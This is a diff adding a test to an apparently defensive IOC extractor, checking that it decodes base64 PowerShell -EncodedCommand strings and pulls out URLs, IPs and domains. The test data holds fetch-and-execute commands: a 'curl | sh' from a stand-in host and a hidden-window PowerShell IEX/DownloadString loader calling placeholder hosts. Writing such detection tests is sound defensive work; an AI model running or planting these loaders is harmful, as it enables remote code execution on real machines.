@@ -94,3 +94,17 @@ func init() {
   assert.ok(iocs.domains.includes('dl.evil.test'));
   assert.ok(iocs.commands.includes('curl -s http://dl.evil.test/stage2 | sh'), JSON.stringify(iocs.commands));
 });
+
+test('a PowerShell -EncodedCommand script (base64 of UTF-16LE) gives its URLs and hosts', () => {
+  const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); iwr https://stage.evil.test/b";
+  const b64 = Buffer.from(script, 'utf16le').toString('base64');
+  for (const flag of ['-enc', '-EncodedCommand', '-e', '/ec']) {
+    const iocs = extractIocs([`powershell -NoP -W Hidden ${flag} ${b64}`]);
+    assert.deepEqual(iocs.urls, ['http://203.0.113.9/a', 'https://stage.evil.test/b'], flag);
+    assert.deepEqual(iocs.ips, ['203.0.113.9']);
+    assert.deepEqual(iocs.domains, ['stage.evil.test']);
+  }
+  // base64 of plain (UTF-8) text after -enc is not a PowerShell script; without powershell named, nothing is decoded
+  assert.deepEqual(extractIocs([`powershell -enc ${Buffer.from('http://203.0.113.9/zz').toString('base64')}`]).urls, []);
+  assert.deepEqual(extractIocs([`tool -enc ${b64}`]).urls, []);
+});
